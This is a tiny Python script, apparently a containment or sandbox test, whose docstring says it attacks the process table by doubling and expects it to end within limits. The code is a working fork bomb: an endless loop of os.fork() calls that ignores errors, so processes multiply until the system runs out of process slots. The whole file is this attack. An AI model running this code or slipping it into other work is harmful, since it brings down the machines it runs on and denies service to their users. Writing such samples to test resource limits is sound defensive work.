"""Attacks: the process table, by doubling.

Must hold: it ends within its limits, and nothing of it is left.
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
